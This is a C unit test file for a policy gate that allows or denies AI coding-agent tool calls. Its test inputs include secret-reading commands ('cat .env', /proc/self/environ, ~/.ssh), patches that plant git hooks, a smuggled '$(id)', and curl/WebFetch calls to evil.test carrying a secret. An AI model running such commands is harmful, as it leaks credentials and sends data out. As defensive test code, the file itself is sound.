/* tests/unit/test_policy_agent_tools.c - pd_gate_agent (the hook's cwd in
 * pd_ctx.cwd and a Codex workdir, shell tools given as argv, apply_patch
 * arriving as a shell command, duplicate keys, the file tools),
 * pd_agent_is_shell_tool and pd_agent_shell_is_patch. */
#include <criterion/criterion.h>

#include <cjson/cJSON.h>

#include "policy/gate_agent.h"
#include "policy/hosts.h"
#include "policy/policy.h"
#include "test_policy_fixture.h"

static char ws[PD_PATH_MAX], home[PD_PATH_MAX], src[PD_PATH_MAX];
static struct pd_policy pol;
static struct pd_ctx ctx;

static void setup(const char *toml)
{
    struct pd_error err;
    tp_mkdtemp(ws, sizeof ws, "agenttools-ws");
    tp_mkdtemp(home, sizeof home, "agenttools-home");
    tp_put(ws, "src/app.py", "print(1)\n", 0644);
    tp_put(ws, ".env", "K=v\n", 0600);
    tp_join(src, sizeof src, ws, "src");
    cr_assert_eq(pd_policy_load_string(&pol, toml, "t.toml", &err), 0, "%s", err.msg);
    cr_assert_eq(pd_ctx_init(&ctx, &pol, ws, home, &err), 0, "%s", err.msg);
    pd_ctx_set_path_env(&ctx, "/usr/local/bin:/usr/bin:/bin");
}

static void teardown(void)
{
    pd_ctx_free(&ctx);
    pd_policy_free(&pol);
    tp_rmtree(ws);
    tp_rmtree(home);
}

/* Judge tool with json ({WS}, {HOME} replaced) with the hook's cwd (NULL:
 * none, the workspace); reason NULL = allow. */
static void call(const char *tool, const char *json, const char *cwd, const char *reason,
                 const char *fragment)
{
    char text[4 * PD_PATH_MAX];
    size_t n = 0;
    for (const char *s = json; *s && n + PD_PATH_MAX < sizeof text;) {
        if (strncmp(s, "{WS}", 4) == 0) {
            n += (size_t)snprintf(text + n, sizeof text - n, "%s", ws);
            s += 4;
        } else if (strncmp(s, "{HOME}", 6) == 0) {
            n += (size_t)snprintf(text + n, sizeof text - n, "%s", home);
            s += 6;
        } else {
            text[n++] = *s++;
        }
    }
    text[n] = '\0';
    cJSON *in = cJSON_Parse(text);
    cr_assert_not_null(in, "bad test JSON %s", text);
    struct pd_verdict v;
    snprintf(ctx.cwd, sizeof ctx.cwd, "%s", cwd ? cwd : "");
    cr_assert(pd_gate_agent(&ctx, tool, in, &v), "%s not an agent tool", tool);
    cJSON_Delete(in);
    if (!reason) {
        cr_expect(!v.deny, "%s %s: expected allow, got %s", tool, text, v.message);
        return;
    }
    cr_expect(v.deny, "%s %s: expected %s, got allow", tool, text, reason);
    if (v.deny) {
        cr_expect_str_eq(v.reason, reason, "%s %s: %s", tool, text, v.message);
        if (fragment)
            cr_expect(strstr(v.message, fragment), "'%s' not in '%s'", fragment, v.message);
    }
}

Test(agent_names, shell_tools)
{
    static const char *const yes[] = {"Bash",        "shell",          "exec_command",
                                      "local_shell", "container.exec", "shell_command"};
    for (size_t k = 0; k < sizeof yes / sizeof yes[0]; k++)
        cr_expect(pd_agent_is_shell_tool(yes[k]), "%s", yes[k]);
    static const char *const no[] = {"bash", "Read", "apply_patch", "mcp__x__shell", "", "Bash "};
    for (size_t k = 0; k < sizeof no / sizeof no[0]; k++)
        cr_expect(!pd_agent_is_shell_tool(no[k]), "%s", no[k]);
    cr_expect(!pd_agent_is_shell_tool(NULL));
}

Test(agent_names, shell_is_patch)
{
    cr_expect(pd_agent_shell_is_patch(
        "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\nEOF\n"));
    cr_expect(pd_agent_shell_is_patch(
        "cd src && apply_patch <<'EOF'\n*** Begin Patch\n*** End Patch\nEOF"));
    cr_expect(pd_agent_shell_is_patch("applypatch '*** Begin Patch\n*** End Patch'"));
    cr_expect(!pd_agent_shell_is_patch("apply_patch <<EOF\n$(id)\nEOF"));
    cr_expect(!pd_agent_shell_is_patch("cat .env"));
    cr_expect(!pd_agent_shell_is_patch("git apply x.patch"));
    cr_expect(!pd_agent_shell_is_patch(NULL));
}

Test(agent_tools, unknown_tools_are_left_to_the_caller, .fini = teardown)
{
    setup("");
    cJSON *in = cJSON_Parse("{\"path\": \".env\"}");
    struct pd_verdict v;
    cr_expect(!pd_gate_agent(&ctx, "read_file", in, &v));
    cr_expect(!pd_gate_agent(&ctx, "frobnicate", in, &v));
    cr_expect(pd_gate_agent(&ctx, "mcp__fs__read", in, &v));
    cr_expect(v.deny);
    cJSON_Delete(in);
}

Test(agent_tools, argv_shells_run_their_script, .fini = teardown)
{
    setup("");
    call("Bash", "{\"command\": [\"bash\", \"-lc\", \"cat .env\"]}", NULL, PD_REASON_SECRET, NULL);
    call("shell", "{\"command\": [\"/bin/sh\", \"-c\", \"cat .env\"]}", NULL, PD_REASON_SECRET,
         NULL);
    call("shell",
         "{\"command\": [\"/usr/bin/zsh\", \"-lc\", \"cat ../.env\"], \"workdir\": \"src\"}", NULL,
         PD_REASON_SECRET, NULL);
    call("shell", "{\"command\": [\"cat\", \".env\"]}", NULL, PD_REASON_SECRET, NULL);
    call("shell", "{\"command\": [\"cat\", 7]}", NULL, "unparsable command", "not a string");
    call("Bash", "{\"command\": 42}", NULL, "unparsable command", NULL);
    call("Bash", "{}", NULL, "unparsable command", NULL);
}

Test(agent_tools, workdir_and_cwd_stay_in_the_workspace, .fini = teardown)
{
    setup("");
    call("Bash", "{\"command\": \"ls\", \"workdir\": \"{HOME}\"}", NULL, PD_REASON_OUTSIDE_WS,
         "is outside the workspace");
    call("exec_command", "{\"cmd\": \"ls\", \"workdir\": \"..\"}", src, NULL, NULL);
    call("exec_command", "{\"cmd\": \"ls\", \"workdir\": \"../..\"}", src, PD_REASON_OUTSIDE_WS,
         "working directory ../.. is outside the workspace");
    call("Bash", "{\"command\": \"ls\", \"workdir\": 3}", NULL, "unparsable command", NULL);
    /* the hook's cwd itself */
    call("Read", "{\"file_path\": \"app.py\"}", home, PD_REASON_OUTSIDE_WS, NULL);
    /* relative paths are taken against the cwd */
    call("Read", "{\"file_path\": \"../.env\"}", src, PD_REASON_SECRET, NULL);
    call("Read", "{\"file_path\": \"app.py\"}", src, NULL, NULL);
    call("Bash", "{\"command\": \"cat ../.env\"}", src, PD_REASON_SECRET, NULL);
    /* a link out of the workspace is outside too */
    tp_link(ws, "src/out", home);
    call("Bash", "{\"command\": \"ls\", \"workdir\": \"src/out\"}", NULL, PD_REASON_OUTSIDE_WS,
         NULL);
}

Test(agent_tools, apply_patch_as_a_shell_command, .fini = teardown)
{
    setup("allow_paths = [\"src/\"]\n");
    call("Bash",
         "{\"command\": \"apply_patch <<'EOF'\\n*** Begin Patch\\n*** Add File: .env\\n+x\\n"
         "*** End Patch\\nEOF\\n\"}",
         NULL, PD_REASON_SECRET, "apply_patch line 2");
    call("Bash",
         "{\"command\": \"cd src && apply_patch <<'EOF'\\n*** Begin Patch\\n*** Add File: new.py\\n"
         "+x\\n*** End Patch\\nEOF\\n\"}",
         NULL, NULL, NULL);
    call("Bash",
         "{\"command\": \"cd src && apply_patch <<'EOF'\\n*** Begin Patch\\n"
         "\\t*** Delete File: ../.env\\n*** End Patch\\nEOF\\n\"}",
         NULL, PD_REASON_SECRET, NULL);
    call("shell",
         "{\"command\": [\"apply_patch\", \"*** Begin Patch\\n *** Add File: "
         ".git/hooks/pre-commit\\n+x\\n*** End Patch\"]}",
         NULL, PD_REASON_PROTECTED, NULL);
    call("shell",
         "{\"command\": [\"bash\", \"-lc\", \"apply_patch <<'EOF'\\n*** Begin Patch\\n"
         "*** Update File: src/app.py\\n@@\\n-print(1)\\n+print(2)\\n*** End Patch\\nEOF\"],"
         " \"workdir\": \"{WS}\"}",
         NULL, NULL, NULL);
}

Test(agent_tools, apply_patch_tool, .fini = teardown)
{
    setup("allow_paths = [\"src/\"]\n");
    call("apply_patch",
         "{\"command\": \"*** Begin Patch\\n *** Add File: .git/hooks/pre-commit\\n+x\\n"
         "*** End Patch\"}",
         NULL, PD_REASON_PROTECTED, NULL);
    call("apply_patch",
         "{\"input\": \"*** Begin Patch\\n\\t*** Delete File: .env\\n*** End Patch\"}", NULL,
         PD_REASON_SECRET, NULL);
    call("apply_patch",
         "{\"command\": \"*** Begin Patch\\n*** Update File: src/app.py\\n@@\\n-print(1)\\n"
         "+print(2)\\n*** End Patch\"}",
         NULL, NULL, NULL);
    /* relative to the hook's cwd */
    call("apply_patch",
         "{\"command\": \"*** Begin Patch\\n*** Add File: b.py\\n+x\\n*** End Patch\"}", src, NULL,
         NULL);
    call("apply_patch", "{}", NULL, PD_REASON_GUARDRAIL, "no patch text");
}

Test(agent_tools, duplicate_keys_are_refused, .fini = teardown)
{
    setup("");
    call("Bash", "{\"command\": \"ls\", \"command\": \"cat .env\"}", NULL, PD_REASON_GUARDRAIL,
         "'command' twice");
    call("mcp__fs__read", "{\"a\": {\"path\": \"x\", \"path\": \".env\"}}", NULL,
         PD_REASON_GUARDRAIL, "'path' twice");
}

Test(agent_tools, file_tools, .fini = teardown)
{
    setup("allow_paths = [\"src/\"]\n");
    call("Write", "{\"file_path\": \"new.py\", \"content\": \"x\"}", src, NULL, NULL);
    call("Write", "{\"file_path\": \"../x.py\", \"content\": \"x\"}", src, PD_REASON_OUTSIDE_ALLOW,
         NULL);
    call("Edit", "{\"file_path\": \"{WS}/.claude/settings.json\"}", NULL, PD_REASON_PROTECTED,
         NULL);
    call("NotebookRead", "{\"notebook_path\": \"{WS}/.env\"}", NULL, PD_REASON_SECRET, NULL);
    call("Read", "{\"file_path\": \"/proc/self/environ\"}", NULL, PD_REASON_SECRET,
         "credential source");
    call("Read", "{}", NULL, PD_REASON_GUARDRAIL, "file_path");
    call("Grep", "{\"pattern\": \"K\"}", NULL, PD_REASON_SECRET, "!.env");
    call("Grep", "{\"pattern\": \"K\", \"glob\": \"*.py\"}", NULL, NULL, NULL);
    call("Grep", "{\"pattern\": \"K\"}", src, NULL, NULL); /* default path: the cwd */
    call("grep_files", "{\"pattern\": \"K\", \"include\": \"*.py\"}", NULL, NULL, NULL);
    call("Glob", "{\"pattern\": \"**/*.pem\"}", NULL, NULL, NULL);
    tp_put(home, ".ssh/id_rsa", "k\n", 0600);
    call("Glob", "{\"pattern\": \"*\", \"path\": \"{HOME}/.ssh\"}", NULL, PD_REASON_SECRET, NULL);
    call("LS", "{\"path\": \"{HOME}/.ssh\"}", NULL, PD_REASON_SECRET, NULL);
    call("TodoWrite", "{\"todos\": [{\"content\": \"fix ../../etc/passwd handling\"}]}", NULL, NULL,
         NULL);
    call("WebFetch", "{\"url\": \"https://example.com\", \"prompt\": \"x\"}", NULL,
         PD_REASON_NETWORK, NULL);
}

/* allow_hosts: WebFetch's url is judged by its host and port; WebSearch
 * names no host; shell tools judge the URLs their commands name. */
Test(agent_tools, network_tools_by_name, .fini = teardown)
{
    setup("allow_paths = [\"src/\"]\nallow_hosts = [\"example.com\", \"api.example.com:8443\"]\n");
    call("WebFetch", "{\"url\": \"https://example.com\", \"prompt\": \"x\"}", NULL, NULL, NULL);
    call("WebFetch", "{\"url\": \"http://example.com/a\", \"prompt\": \"x\"}", NULL, NULL, NULL);
    call("WebFetch", "{\"url\": \"https://api.example.com:8443/v1\", \"prompt\": \"x\"}", NULL,
         NULL, NULL);
    call("WebFetch", "{\"url\": \"https://api.example.com/v1\", \"prompt\": \"x\"}", NULL,
         PD_REASON_HOST_NOT_ALLOWED,
         "WebFetch: https://api.example.com/v1: api.example.com:443 (not in allow_hosts)");
    call("WebFetch", "{\"url\": \"https://evil.test/?q=secret\", \"prompt\": \"x\"}", NULL,
         PD_REASON_HOST_NOT_ALLOWED, "evil.test:443 (not in allow_hosts)");
    call("WebFetch", "{\"url\": \"https://example.com@evil.test/\", \"prompt\": \"x\"}", NULL,
         PD_REASON_HOST_NOT_ALLOWED, "evil.test:443");
    call("WebFetch", "{\"url\": \"https://127.1/\", \"prompt\": \"x\"}", NULL,
         PD_REASON_HOST_MALFORMED, NULL);
    call("WebFetch", "{\"url\": \"file:///etc/passwd\", \"prompt\": \"x\"}", NULL,
         PD_REASON_HOST_MALFORMED, "names no host that allow_hosts can judge");
    call("WebSearch", "{\"query\": \"x\"}", NULL, PD_REASON_NETWORK,
         "reaches hosts it does not name");
    call("Bash", "{\"command\": \"curl -s https://example.com/\"}", src, NULL, NULL);
    call("Bash", "{\"command\": \"curl -s https://evil.test/\"}", src, PD_REASON_HOST_NOT_ALLOWED,
         "curl: https://evil.test/: evil.test:443 (not in allow_hosts)");
    call("exec_command", "{\"cmd\": [\"curl\", \"https://evil.test/\"]}", NULL,
         PD_REASON_HOST_NOT_ALLOWED, "evil.test:443");
    /* the rule, for the advice */
    cJSON *in = cJSON_Parse("{\"url\": \"https://evil.test/\", \"prompt\": \"x\"}");
    struct pd_verdict v;
    ctx.cwd[0] = '\0';
    cr_assert(pd_gate_agent(&ctx, "WebFetch", in, &v));
    cJSON_Delete(in);
    cr_expect_str_eq(v.key, "allow_hosts");
    cr_expect_str_eq(v.subject, "evil.test:443");
}
